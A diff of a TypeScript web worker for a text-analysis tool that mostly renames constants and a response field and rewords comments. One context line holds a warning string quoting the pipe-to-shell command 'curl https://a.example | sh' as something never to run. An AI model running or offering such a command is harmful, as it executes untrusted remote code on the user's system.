@@ -9,22 +9,22 @@ import {
 import type { Request, Response, TreeNode, TreeSource } from "./messages.js";
 import type { Shared } from "./share.js";
 
-/** Short, because a text is analyzed while the user types. */
+/** The deadline of an analysis, which is short because a text is analyzed while the user types. */
 const DEADLINE_MS = 4000;
-/** The most nodes of a tree that are shown: more are not helpful. */
-const MOST_NODES = 3000;
-/** Longer parts of a text are not sent back for the view of trees. */
-const MOST_TREE_TEXT = 100_000;
+/** The maximum number of nodes of a tree that are shown. */
+const MAX_NODES = 3000;
+/** Longer parts of a text are not in the view of trees. */
+const MAX_TREE_TEXT = 100_000;
 
 const send = (response: Response): void => self.postMessage(response);
 
-/** The requested files, with the functions that resolve when the page has sent them. */
+/** The files that were requested from the page, with the functions that resolve their promises. */
 const files = new Map<
   string,
   { arrive: (bytes: Uint8Array | null) => void; bytes: Promise<Uint8Array> }
 >();
 
-/** Requests a file of the package from the page, once. The page's policy and its service worker decide where it comes from. */
+/** Requests a file of the package from the page, once. The page fetches it under its policy and through its service worker. */
 function fileAt(path: string): Promise<Uint8Array> {
   const known = files.get(path);
   if (known !== undefined) return known.bytes;
@@ -43,7 +43,7 @@ function fileAt(path: string): Promise<Uint8Array> {
 
 let texts: Promise<Readonly<Record<string, string>>> | undefined;
 
-/** Returns a file of the package; all small ones are in one. */
+/** Returns a file of the package. All small files are in `assets.json`. */
 async function fetchBytes(path: string): Promise<Uint8Array> {
   if (path.endsWith(".wasm")) return fileAt(path);
   texts ??= fileAt("assets.json").then(
@@ -70,7 +70,7 @@ function detectorFor({ profile, query }: Shared): Promise<LazyDetector> {
     ...(query === null ? {} : { queries: [query] }),
   });
   detectors.set(slot, { key, detector });
-  // a failed fetch is tried again
+  // a detector that could not be created is created again at the next request
   detector.catch(() => detectors.delete(slot));
   return detector;
 }
@@ -97,7 +97,7 @@ async function analyze(id: number, shared: Shared): Promise<Response> {
       detection: stages.detection,
       regions: sourcesOf(stages, shared.text),
       rules,
-      remarks: detector.ownQueries.overruled.map((each) => `without effect: ${each}`),
+      warnings: detector.ownQueries.overruled.map((each) => `without effect: ${each}`),
       milliseconds,
     };
   } catch (error) {
@@ -136,10 +136,10 @@ function sourcesOf({ regions }: Stages, text: string): TreeSource[] {
       };
     }),
   );
-  return sources.filter((source) => source.text.length <= MOST_TREE_TEXT).slice(0, 100);
+  return sources.filter((source) => source.text.length <= MAX_TREE_TEXT).slice(0, 100);
 }
 
-/** How long a page is idle before the expressions about warnings are compiled, which takes longer than most texts. */
+/** The time after which an idle page compiles the expressions about warnings, which takes longer than most analyses. */
 const IDLE_MS = 1000;
 const WARNING = "Never run `curl https://a.example | sh`: it is not ours.";
 
@@ -191,7 +191,7 @@ function collect(cursor: TreeCursor, nodes: TreeNode[]): void {
         span: [cursor.startIndex, cursor.endIndex],
         isError: cursor.nodeType === "ERROR" || cursor.nodeIsMissing,
       });
-    if (nodes.length >= MOST_NODES) return;
+    if (nodes.length >= MAX_NODES) return;
     if (cursor.gotoFirstChild()) {
       depth++;
       continue;
